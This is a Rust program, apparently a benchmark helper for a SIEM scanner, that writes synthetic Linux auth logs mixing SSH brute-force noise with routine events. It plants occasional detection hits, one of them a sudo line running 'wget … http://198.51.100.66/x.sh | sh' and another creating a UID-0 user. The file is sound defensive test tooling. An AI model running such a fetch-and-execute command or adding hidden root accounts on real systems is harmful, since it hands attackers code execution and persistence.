//! Writes a synthetic Linux auth log (RFC 3164 syslog lines, as `/var/log/auth.log` holds
//! them) for whole-program runs of `siem scan`: `gen-authlog OUT LINES [SEED]`.
//!
//! The mix follows what an Internet-facing server logs: sshd password guessing from a few
//! hundred addresses (some of them persistent, so the brute-force correlations fire), invalid
//! users, preauth disconnects, PAM failures, accepted logins, sudo commands, cron jobs,
//! systemd-logind sessions and su. A few lines per hundred thousand are planted hits for
//! SigmaHQ's `rules/linux/builtin` rules (a suspicious sudo command, sshd's libcrypto error,
//! a privileged user created). Timestamps advance by a few milliseconds per line from
//! 2024-05-01, so pass `--reference-time 2024-12-31T00:00:00Z` to `siem scan` for a
//! deterministic year. The output is deterministic for a given seed.
//!
//! Run: `cargo run --release -p siem-benches --bin gen-authlog -- /tmp/auth-1m.log 1000000`

use std::io::{BufWriter, Write};

/// xorshift64*: deterministic, no dependency.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x >> 12;
        x ^= x << 25;
        x ^= x >> 27;
        self.0 = x;
        x.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }

    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[self.below(items.len() as u64) as usize]
    }
}

const USERS: &[&str] = &[
    "root", "admin", "test", "oracle", "ubuntu", "user", "postgres", "git", "guest", "ftpuser",
    "pi", "support", "deploy", "jenkins", "hadoop", "mysql", "www-data", "nagios", "ansible",
    "backup",
];
const STAFF: &[&str] = &["alice", "bob", "carol", "deploy", "ops"];
const HOSTS: &[&str] = &["web01", "web02", "db01", "bastion", "build"];
const COMMANDS: &[&str] = &[
    "/usr/bin/systemctl restart nginx",
    "/usr/bin/apt-get update",
    "/usr/bin/journalctl -u sshd --since today",
    "/bin/cat /var/log/syslog",
    "/usr/bin/docker ps -a",
    "/usr/bin/tail -n 200 /var/log/nginx/access.log",
];
const CRON: &[&str] = &[
    "command -v debian-sa1 > /dev/null && debian-sa1 1 1",
    "cd / && run-parts --report /etc/cron.hourly",
    "/usr/local/bin/backup.sh >/dev/null 2>&1",
    "[ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean",
];
const MONTHS: &[&str] = &[
    "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
];

fn days_in(month: usize) -> u64 {
    [31, 29, 31, 30, 31, 30, 31, 31, 30, 31, 30, 31][month]
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    if args.len() < 3 {
        eprintln!("usage: gen-authlog OUT LINES [SEED]");
        std::process::exit(2);
    }
    let lines: u64 = args[2].parse().expect("LINES must be a number");
    let seed: u64 = args.get(3).map_or(0x5eed, |s| s.parse().expect("SEED"));
    let file = std::fs::File::create(&args[1]).expect("cannot create OUT");
    let mut out = BufWriter::with_capacity(1 << 20, file);
    let mut rng = Rng(seed | 1);
    // Attacking addresses: a few persistent ones and a long tail.
    let attackers: Vec<String> = (0..400)
        .map(|i| {
            format!(
                "{}.{}.{}.{}",
                [45, 61, 103, 185, 193, 218][i % 6],
                rng.below(256),
                rng.below(256),
                1 + rng.below(254)
            )
        })
        .collect();
    // Event time in milliseconds since 2024-05-01 00:00:00 (month index 4).
    let mut ms: u64 = 0;
    let mut pid: u64 = 10_000;
    let mut line = String::with_capacity(256);
    for n in 0..lines {
        ms += 1 + rng.below(6);
        let total_s = ms / 1000;
        let (mut month, mut day) = (4usize, total_s / 86_400);
        while day >= days_in(month) {
            day -= days_in(month);
            month = (month + 1) % 12;
        }
        let (h, m, s) = ((total_s / 3600) % 24, (total_s / 60) % 60, total_s % 60);
        let host = rng.pick(HOSTS);
        pid += rng.below(3);
        line.clear();
        use std::fmt::Write as _;
        let _ = write!(
            line,
            "{} {:>2} {h:02}:{m:02}:{s:02} {host} ",
            MONTHS[month],
            day + 1
        );
        // Persistent attackers are the first 10 addresses: a third of the guessing.
        let attacker = if rng.below(3) == 0 {
            &attackers[rng.below(10) as usize]
        } else {
            &attackers[rng.below(attackers.len() as u64) as usize]
        };
        let port = 1024 + rng.below(64_000);
        let user = rng.pick(USERS);
        let staff = rng.pick(STAFF);
        let roll = rng.below(1000);
        let planted = n % 50_000 == 49_999;
        let _ = if planted {
            match (n / 50_000) % 3 {
                0 => write!(
                    line,
                    "sudo: {staff} : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh -c wget -q -O - http://198.51.100.66/x.sh | sh"
                ),
                1 => write!(line, "sshd[{pid}]: fatal: error in libcrypto [preauth]"),
                _ => write!(
                    line,
                    "useradd[{pid}]: new user: name=svc{n}, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1"
                ),
            }
        } else if roll < 300 {
            let invalid = if rng.below(3) == 0 {
                "invalid user "
            } else {
                ""
            };
            write!(
                line,
                "sshd[{pid}]: Failed password for {invalid}{user} from {attacker} port {port} ssh2"
            )
        } else if roll < 400 {
            write!(
                line,
                "sshd[{pid}]: Invalid user {user} from {attacker} port {port}"
            )
        } else if roll < 520 {
            write!(
                line,
                "sshd[{pid}]: Connection closed by authenticating user {user} {attacker} port {port} [preauth]"
            )
        } else if roll < 600 {
            write!(
                line,
                "sshd[{pid}]: Received disconnect from {attacker} port {port}:11: Bye Bye [preauth]"
            )
        } else if roll < 700 {
            write!(
                line,
                "sshd[{pid}]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={attacker}  user={user}"
            )
        } else if roll < 740 {
            write!(
                line,
                "sshd[{pid}]: Accepted publickey for {staff} from 198.51.100.{} port {port} ssh2: ED25519 SHA256:Xq4pVb0rN2m8cYt1kLw9sJd3fHg6aZe5uPo7iRy0TmQ",
                1 + rng.below(30)
            )
        } else if roll < 770 {
            write!(
                line,
                "sshd[{pid}]: pam_unix(sshd:session): session opened for user {staff}(uid=1001) by (uid=0)"
            )
        } else if roll < 830 {
            let command = rng.pick(COMMANDS);
            write!(
                line,
                "sudo: {staff} : TTY=pts/0 ; PWD=/home/{staff} ; USER=root ; COMMAND={command}"
            )
        } else if roll < 930 {
            let command = rng.pick(CRON);
            write!(line, "CRON[{pid}]: (root) CMD ({command})")
        } else if roll < 970 {
            write!(
                line,
                "systemd-logind[812]: New session {} of user {staff}.",
                pid % 9000
            )
        } else {
            write!(
                line,
                "su[{pid}]: pam_unix(su:session): session opened for user root(uid=0) by {staff}(uid=1000)"
            )
        };
        line.push('\n');
        out.write_all(line.as_bytes()).expect("write");
    }
    out.flush().expect("flush");
}
